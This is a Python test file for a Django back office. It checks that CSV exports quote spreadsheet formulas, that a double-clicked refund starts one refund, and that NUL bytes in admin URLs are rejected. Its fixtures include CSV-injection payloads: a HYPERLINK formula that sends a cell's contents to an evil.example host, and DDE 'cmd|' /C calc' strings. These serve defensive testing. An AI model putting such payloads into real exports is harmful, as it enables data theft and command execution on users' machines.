"""Admin under a double click, hostile text in its exports, and a NUL in its addresses (found by a review of the
back office, 2026-12-06 night; each test failed on the code before it).

* A CSV cell that starts with ``=``, ``+``, ``-``, ``@`` is a formula to Excel. The exports hold text from
  outside (a provider's statement, a product's name, a clerk's name from the CRM's ticket): it goes out as
  text (backoffice/spreadsheet.py).
* "Refund" clicked twice on a phone-bill or cash sale started two refunds: two SMP reversals, two log entries,
  "refund started" twice.
* A NUL in a list's filter was a 500 on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone

from backoffice.spreadsheet import cell
from billing.models import WorkItem
from billing.models.reconciliation import ReconciliationItem, ReconciliationRun
from ipvas.keyfiles import sandbox_public_key_pem
from ipvas.models import OutboxMessage
from orders.models import Order, OrderEvent, Product
from sandbox.models import SimSmpAccount
from tests import quick
from tests.channels_crm.support import CRM_KEY, new_order, pay, settle, sign_in

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _crm(settings, monkeypatch) -> None:
    settings.CRM_SSO_PUBLIC_KEY = sandbox_public_key_pem(CRM_KEY)
    quick.speed_up(monkeypatch, settings)


@pytest.fixture
def admin(db) -> Client:
    user = get_user_model().objects.create_superuser("ops-lead", email="", password="unused-password-1")
    client = Client()
    client.force_login(user)
    return client


def completed_sale(method: str) -> Order:
    clerk = sign_in()
    order = new_order(clerk, "13800000001")
    pay(clerk, order, method, **({"cash_received": "yes"} if method == "cash" else {}))
    settle()
    order.refresh_from_db()
    assert order.status == "completed", (order.status, order.failure_code)
    return order


def csv_cells(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def formulas(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if len(c) > 1 and c.startswith(FORMULA_STARTS)]


# --- CSV: text, never a formula ------------------------------------------------------------------------


def test_a_statements_text_goes_out_as_text_in_the_reconciliation_csv(admin):
    run = ReconciliationRun.objects.create(day=date(2026, 11, 24), started_at=timezone.now())
    ReconciliationItem.objects.create(
        run=run,
        outcome="missing_here",
        source="wechatpay",
        kind="payment",
        order_no='=HYPERLINK("http://evil.example/?x="&A1,"open")',
        reference="@SUM(1+1)*cmd|' /C calc'!A0",
        their_amount_fen=2500,
    )
    rows = csv_cells(admin.get(f"/admin/billing/reconciliationrun/{run.pk}/export/"))
    assert len(rows) == 2 and formulas(rows) == []
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"open")' in rows[1]  # all of it, behind a quote
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]


@pytest.mark.parametrize("table", ["revenue_by_product", "cash_totals"])
def test_a_product_or_clerk_name_goes_out_as_text_in_the_reports_csv(admin, demo, table):
    Product.objects.filter(code="VIP-MONTH").update(name='=HYPERLINK("http://evil.example","VIP")')
    clerk = sign_in(name="-2+3+cmd|' /C calc'!A0")
    order = new_order(clerk, "13800000001")
    pay(clerk, order, "cash", cash_received="yes")
    settle()
    today = timezone.localdate().isoformat()
    rows = csv_cells(admin.get("/admin/reports/", {"start": today, "end": today, "day": today, "export": table}))
    named = [c for row in rows[1:] for c in row if "HYPERLINK" in c or "cmd|" in c]
    assert named and formulas(rows) == [], rows


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("-25.00", "-25.00"),  # a refund's amount stays a number
        ("-", "-"),  # a report's "none"
        ("25.00", "25.00"),
        (-2500, -2500),
        ("VIP 包月", "VIP 包月"),
    ],
)
def test_only_what_a_spreadsheet_would_run_is_quoted(value, written):
    assert cell(value) == written


# --- refund clicked twice ---------------------------------------------------------------------------


@pytest.mark.parametrize("method", ["phone_bill", "cash"])
def test_refund_clicked_twice_starts_one_refund(admin, demo, method):
    order = completed_sale(method)
    url = f"/admin/orders/order/{order.pk}/refund/"
    first = admin.post(url, {"reason": "customer changed mind"}, follow=True)
    second = admin.post(url, {"reason": "customer changed mind"}, follow=True)
    assert "已发起退款" in first.content.decode()
    assert "已发起退款" not in second.content.decode() and "该订单正在退款" in second.content.decode()
    assert OutboxMessage.objects.filter(task_name="lifecycle.tasks.reverse_phone_bill").count() == (
        1 if method == "phone_bill" else 0
    )
    settle()
    assert OrderEvent.objects.filter(order=order, action="refund_requested").count() == 1
    assert LogEntry.objects.filter(object_id=str(order.pk)).count() == 1
    if method == "phone_bill":
        order.refresh_from_db()
        assert order.status == "refunded"
        assert SimSmpAccount.objects.get(tv_account="tv1001").balance_fen == 100000
    else:
        assert WorkItem.objects.filter(order=order).count() == 1


def test_a_cash_payback_closed_without_paying_may_be_asked_again(admin, demo):
    """The request stands until its work item is closed: dismissed (the customer came back for it later, say),
    a new refund may be asked for."""
    order = completed_sale("cash")
    url = f"/admin/orders/order/{order.pk}/refund/"
    admin.post(url, {"reason": "customer changed mind"})
    item = WorkItem.objects.get(order=order)
    WorkItem.objects.filter(pk=item.pk).update(resolved_at=timezone.now(), resolution="customer stayed")
    answer = admin.post(url, {"reason": "customer came back"}, follow=True)
    assert "已发起退款" in answer.content.decode()
    assert WorkItem.objects.filter(order=order, resolved_at__isnull=True).count() == 1


# --- a NUL in the address ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/admin/orders/order/?status=%00",
        "/admin/orders/order/?q=1380000%000001",
        "/admin/billing/workitem/?kind=%00",
        "/admin/orders/subscription/?%00=1",
    ],
)
def test_a_nul_in_an_admin_address_is_a_400(admin, url):
    response = admin.get(url)
    assert response.status_code == 400
    assert "NUL" in response.content.decode()


def test_an_older_work_item_closed_meanwhile_does_not_release_the_request(demo):
    """A phone-bill sale with an older, unrelated work item open. A refund is asked for (the reversal queued);
    someone closes the old item; a second click must still find the first request standing (a review of the
    double-click fix found any item of the order closed since released it)."""
    from billing.models import WorkItemKind
    from ipvas.actors import Actor, ActorKind
    from lifecycle.manual import refund_by_admin, work_item_resolve

    admin_actor = Actor(ActorKind.ADMIN, "ops-lead")
    order = completed_sale("phone_bill")
    old = WorkItem.objects.create(order=order, kind=WorkItemKind.PROVIDER_DISAGREES, detail="an older matter")
    assert refund_by_admin(order_id=order.pk, reason="customer changed mind", actor=admin_actor) == "smp_reversal"
    work_item_resolve(item_id=old.pk, note="the older matter is settled", actor=admin_actor)
    again = refund_by_admin(order_id=order.pk, reason="customer changed mind", actor=admin_actor)
    assert again == "already_under_way"
    assert OutboxMessage.objects.filter(task_name="lifecycle.tasks.reverse_phone_bill").count() == 1


@pytest.mark.parametrize(
    "url",
    [
        "/admin/orders/order/%00/change/",
        "/admin/orders/order/_00/change/",
        "/admin/orders/order/abc/change/",
        "/admin/orders/subscription/abc/change/",
        "/admin/orders/subscription/_00/change/",
    ],
)
def test_an_order_id_that_is_no_number_is_not_a_500(admin, url):
    """Admin unquotes ``_00`` into a NUL; the order page read the id before admin's own lookup did (a review)."""
    response = admin.get(url)
    assert response.status_code == 302  # admin's "does not exist", back to the list
